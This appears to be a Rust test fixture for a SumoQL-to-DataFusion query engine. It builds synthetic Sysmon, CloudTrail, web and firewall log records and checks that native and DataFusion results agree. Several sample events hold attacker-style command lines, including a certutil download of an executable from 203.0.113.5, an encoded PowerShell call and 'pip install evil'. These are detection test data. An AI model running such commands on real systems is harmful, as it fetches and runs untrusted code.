// Each test binary uses part of the fixture.
#![allow(dead_code)]

//! Records and runners shared by the DataFusion tests: the same records as
//! native records and as an in-memory DataFusion table.

use std::sync::Arc;

use datafusion::arrow::array::{ArrayRef, Float64Array, RecordBatch, StringArray, UInt64Array};
use datafusion::arrow::datatypes::{DataType, Field, Schema};
use datafusion::datasource::MemTable;
use datafusion::prelude::SessionContext;
use sumoql_engine::datafusion::{register, result_table, translate, SEQUENCE_COLUMN};
use sumoql_engine::{compile, Execution, Record, ResultTable, Value};
use sumoql_syntax::parse_query;

const COLUMNS: &[&str] = &[
    "_raw",
    "_sourceCategory",
    "_sourceHost",
    "EventID",
    "Image",
    "CommandLine",
    "ParentImage",
    "User",
    "DestinationPort",
];

/// One test record: the text of each column in `COLUMNS`, and its time.
pub struct TestRecord {
    texts: Vec<Option<String>>,
    time: Option<f64>,
}

impl Record for TestRecord {
    fn field(&self, lowercase_name: &str) -> Option<Value> {
        if lowercase_name == "_messagetime" {
            return self.time.map(Value::Number);
        }
        let index = COLUMNS
            .iter()
            .position(|name| name.eq_ignore_ascii_case(lowercase_name))?;
        self.texts[index].as_deref().map(Value::text)
    }
}

fn event(
    host: &str,
    event_id: u32,
    image: &str,
    command_line: &str,
    parent: &str,
    port: Option<u32>,
    time: f64,
) -> TestRecord {
    let raw = format!(
        "<Event><EventID>{event_id}</EventID><Computer>{host}</Computer><Image><![CDATA[{image}]]></Image><CommandLine><![CDATA[{command_line}]]></CommandLine><ParentImage><![CDATA[{parent}]]></ParentImage>{}</Event>",
        port.map(|port| format!("<DestinationPort>{port}</DestinationPort>")).unwrap_or_default()
    );
    TestRecord {
        texts: vec![
            Some(raw),
            Some("windows/sysmon".to_string()),
            Some(host.to_string()),
            Some(event_id.to_string()),
            Some(image.to_string()),
            Some(command_line.to_string()),
            Some(parent.to_string()),
            (event_id != 3).then(|| format!("CORP\\user{}", event_id % 3)),
            port.map(|port| port.to_string()),
        ],
        time: Some(time),
    }
}

pub fn records() -> Vec<TestRecord> {
    let mut records = vec![
        event(
            "ws-01",
            1,
            r"C:\Windows\System32\cmd.exe",
            "cmd /c whoami",
            r"C:\Python311\python.exe",
            None,
            1_700_000_000_000.0,
        ),
        event(
            "ws-02",
            1,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell -enc AAAA",
            r"C:\Program Files\nodejs\node.exe",
            None,
            1_700_000_060_000.0,
        ),
        event(
            "ws-01",
            3,
            r"C:\Python311\python.exe",
            "",
            "",
            Some(4444),
            1_700_000_120_000.0,
        ),
        event(
            "ws-03",
            3,
            r"C:\Program Files\nodejs\node.exe",
            "",
            "",
            Some(443),
            1_700_000_180_000.0,
        ),
        event(
            "ws-02",
            11,
            r"C:\Python311\Scripts\pip.exe",
            "pip install evil",
            r"C:\Python311\python.exe",
            None,
            1_700_000_240_000.0,
        ),
        event(
            "ws-01",
            1,
            r"C:\Windows\System32\certutil.exe",
            "certutil -urlcache -f http://203.0.113.5/a.exe",
            r"C:\Python311\Scripts\pip.exe",
            None,
            1_700_000_300_000.0,
        ),
        event(
            "WS-01",
            1,
            r"C:\Windows\explorer.exe",
            "explorer.exe",
            r"C:\Windows\System32\userinit.exe",
            None,
            1_700_000_360_000.0,
        ),
        event(
            "ws-03",
            3,
            r"C:\Program Files\nodejs\node.exe",
            "",
            "",
            Some(8080),
            1_700_000_420_000.0,
        ),
    ];
    for (index, line) in [
        r#"{"eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.7","userIdentity":{"type":"IAMUser","userName":"alice"},"responseElements":{"ConsoleLogin":"Failure"}}"#,
        r#"{"eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.7","userIdentity":{"type":"Root"},"responseElements":{"ConsoleLogin":"Success"}}"#,
        r#"{"eventName":"CreateUser","sourceIPAddress":"203.0.113.9","userIdentity":{"type":"IAMUser","userName":"bob"},"errorCode":"AccessDenied"}"#,
        r#"192.0.2.10 - - [05/Dec/2026:01:02:03 +0000] "GET /index.html HTTP/1.1" 200 5120 "-" "curl/8.0""#,
        r#"192.0.2.11 - - [05/Dec/2026:01:02:04 +0000] "POST /login HTTP/1.1" 401 312 "-" "Mozilla/5.0""#,
        "action=blocked src=10.0.0.5 dst=192.0.2.80 dport=445 user=carol severity=high",
        "action=allowed src=10.0.0.6 dst=192.0.2.81 dport=443 user=dave severity=low",
    ]
    .into_iter()
    .enumerate()
    {
        let mut texts = vec![None; COLUMNS.len()];
        texts[0] = Some(line.to_string());
        texts[1] = Some(if line.starts_with('{') { "aws/cloudtrail" } else { "web/access" }.to_string());
        texts[2] = Some(format!("srv-{}", index % 3));
        records.push(TestRecord {
            texts,
            time: Some(1_700_000_500_000.0 + index as f64 * 90_000.0),
        });
    }
    records.push(TestRecord {
        texts: vec![
            Some("plain text line with error 42".to_string()),
            Some("app/log".to_string()),
            Some("ws-09".to_string()),
            None,
            None,
            None,
            None,
            None,
            None,
        ],
        time: None,
    });
    records
}

pub fn native(query: &str, records: &[TestRecord]) -> ResultTable {
    let query = parse_query(query).expect("query parses");
    let plan = compile(&query).expect("query compiles");
    let mut execution = Execution::new(&plan);
    for record in records {
        execution.push(record);
    }
    execution.finish().expect("within the group limit")
}

pub fn table(records: &[TestRecord]) -> MemTable {
    let mut fields: Vec<Field> = COLUMNS
        .iter()
        .map(|name| Field::new(*name, DataType::Utf8, true))
        .collect();
    fields.push(Field::new("_messageTime", DataType::Float64, true));
    fields.push(Field::new(SEQUENCE_COLUMN, DataType::UInt64, false));
    let schema = Arc::new(Schema::new(fields));
    let mut columns: Vec<ArrayRef> = (0..COLUMNS.len())
        .map(|index| {
            let texts: StringArray = records
                .iter()
                .map(|record| record.texts[index].as_deref())
                .collect();
            Arc::new(texts) as ArrayRef
        })
        .collect();
    let times: Float64Array = records.iter().map(|record| record.time).collect();
    columns.push(Arc::new(times));
    columns.push(Arc::new(UInt64Array::from_iter_values(
        0..records.len() as u64,
    )));
    let batch = RecordBatch::try_new(schema.clone(), columns).expect("batch");
    // Two partitions, so the translation cannot lean on one input order.
    let (first, second) = (batch.slice(0, 4), batch.slice(4, batch.num_rows() - 4));
    MemTable::try_new(schema, vec![vec![second], vec![first]]).expect("table")
}

/// Compares two results, allowing a relative 1e-9 between numbers, since
/// DataFusion adds partial sums in another order.
pub fn agree(expected: &ResultTable, actual: &ResultTable) -> Result<(), String> {
    if expected.columns != actual.columns {
        return Err(format!(
            "columns {:?} against {:?}",
            actual.columns, expected.columns
        ));
    }
    if expected.rows.len() != actual.rows.len() {
        return Err(format!(
            "{} rows against {}",
            actual.rows.len(),
            expected.rows.len()
        ));
    }
    for (index, (left, right)) in actual.rows.iter().zip(&expected.rows).enumerate() {
        let same = left.iter().zip(right).all(|pair| match pair {
            (Some(Value::Number(a)), Some(Value::Number(b))) => {
                a == b || (a - b).abs() <= 1e-9 * a.abs().max(b.abs())
            }
            (a, b) => a == b,
        });
        if !same {
            return Err(format!("row {index}: {left:?} against {right:?}"));
        }
    }
    Ok(())
}

pub fn on_datafusion(query: &str, records: &[TestRecord]) -> ResultTable {
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let context = SessionContext::new();
        register(&context);
        context
            .register_table("logs", Arc::new(table(records)))
            .expect("register");
        let query = parse_query(query).expect("query parses");
        let plan = compile(&query).expect("query compiles");
        let scan = context
            .table("logs")
            .await
            .expect("table")
            .into_unoptimized_plan();
        let logical = translate(&plan, scan).unwrap_or_else(|error| panic!("{}", error.message));
        let batches = context
            .execute_logical_plan(logical)
            .await
            .expect("plan")
            .collect()
            .await
            .expect("run");
        result_table(&plan, &batches).expect("result")
    })
}

pub fn same_on_both(query: &str) -> ResultTable {
    let records = records();
    let expected = native(query, &records);
    let actual = on_datafusion(query, &records);
    assert_eq!(actual, expected, "query: {query}");
    expected
}
